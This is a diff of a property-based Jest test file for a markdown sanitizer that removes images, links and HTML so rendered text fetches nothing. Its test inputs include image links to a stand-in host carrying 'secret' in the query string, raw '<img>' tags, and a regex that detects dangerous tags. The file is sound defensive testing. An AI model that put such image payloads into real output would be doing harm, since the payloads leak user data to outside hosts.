@@ -1,28 +1,82 @@
 import { describe, expect, test } from '@jest/globals';
 import fc from 'fast-check';
-import { safeMarkdown } from '../../../domain/text/safe-markdown.js';
+import MarkdownIt from 'markdown-it';
+import { marked } from 'marked';
+import { escapeMarkdown, isSafeMarkdown, safeMarkdown } from '../../../domain/text/safe-markdown.js';
+
+const markdownIt = new MarkdownIt({ html: true });
+/** What two renderers that are not the parser make of it. */
+const renderings = (text: string): string[] => [
+  markdownIt.render(text),
+  marked.parse(text, { async: false, gfm: false }),
+];
+/** What readers' browsers would fetch, follow or run. */
+const DANGEROUS = /<(?:img|a|script|iframe|b)\b/i;
 
 describe('safeMarkdown', () => {
   test.each([
-    ['Look ![](https://evil.test/?q=secret)', 'Look [] (https://evil.test/?q=secret)'],
-    ['a [link](https://evil.test)', 'a [link] (https://evil.test)'],
-    ['![a][b]\n\n[b]: https://evil.test', '[a][b]\n\n[b] : https://evil.test'],
+    ['Look ![](https://evil.test/?q=secret)', 'Look '],
+    ['Look ![a *cat*](https://evil.test)', 'Look a cat'],
+    ['a [link](https://evil.test)', 'a link'],
+    ['<https://evil.test> and <me@evil.test>', 'https://evil.test and me@evil.test'],
+    ['![a][b]\n\n[b]: https://evil.test', 'a\n\n'],
+    ['- x\n\n  [b]: https://evil.test\n\n![a][b]', '- x\n\n  \n\na'],
     ['<img src=x> and </passage> and <!-- x -->', '\\<img src=x> and \\</passage> and \\<!-- x -->'],
-    ['As [3] says', 'As \\[3\\] says'],
+    ['As [3] says, and \\\\[4] too', 'As \\[3\\] says, and \\\\\\[4\\] too'],
     ['already \\[3\\] and \\<b>', 'already \\[3\\] and \\<b>'],
-    ['keep `a[0](x)` and ```\n<div>\n``` and 1 < 2', 'keep `a[0](x)` and ```\n<div>\n``` and 1 < 2'],
+    ['keep `a[0](x)` and\n\n```\n<div>\n```\n\nand 1 < 2', 'keep `a[0](x)` and\n\n```\n<div>\n```\n\nand 1 < 2'],
     ['**bold**, $x_1$, | a | b |', '**bold**, $x_1$, | a | b |'],
+    ['\\`![](https://evil.test)\\`', '\\`\\`'],
+    ['``a`![](https://evil.test)`', '``a`![](https://evil.test)`'],
+    ['`a\n\n![](https://evil.test)\n\nb`', '`a\n\n\n\nb`'],
   ])('of %j is %j', (text, safe) => {
     expect(safeMarkdown(text)).toBe(safe);
+    for (const html of renderings(safe)) expect(html).not.toMatch(DANGEROUS);
   });
 
-  test('leaves no image, link or mark outside of code, and is the same twice', () => {
-    const piece = fc.constantFrom('![', '[', ']', '(', ')', 'http://x', '<b', '\\', ' ', '1', 'a', '\n', ':');
+  const piece = fc.constantFrom(
+    ...['![', '[', ']', '(', ')', '](', ']:', 'http://x', '<b', '<img src=x>', '</b>', '<!--', '-->', '<http://x>'],
+    ...[
+      '\\',
+      '`',
+      '``',
+      '```',
+      '~~~',
+      '\n',
+      '\n\n',
+      ' ',
+      '    ',
+      '\t',
+      '- ',
+      '> ',
+      '1. ',
+      '1',
+      'a',
+      ':',
+      '"',
+      '!',
+      '&',
+      ';',
+    ],
+    ...['[a]: http://x', '[a][a]', '![a]', '$', '*', '_', '|', '#', '\r', '\u0000'],
+  );
+
+  test('leaves nothing that two other renderers make an image, a link or a tag of, and is the same twice', () => {
     fc.assert(
-      fc.property(fc.array(piece), (pieces) => {
+      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
         const safe = safeMarkdown(pieces.join(''));
-        expect(safe).not.toMatch(/!\[|(?<!\\)\]\(|(?<!\\)<b|(?<!\\)\[\d+(?<!\\)\]/);
+        expect(isSafeMarkdown(safe)).toBe(true);
+        for (const html of renderings(safe)) expect(html).not.toMatch(DANGEROUS);
         expect(safeMarkdown(safe)).toBe(safe);
+      }),
+      { numRuns: 1_000 },
+    );
+  });
+
+  test('escaped, a text is shown as it is', () => {
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
+        for (const html of renderings(escapeMarkdown(pieces.join('')))) expect(html).not.toMatch(DANGEROUS);
       }),
     );
   });
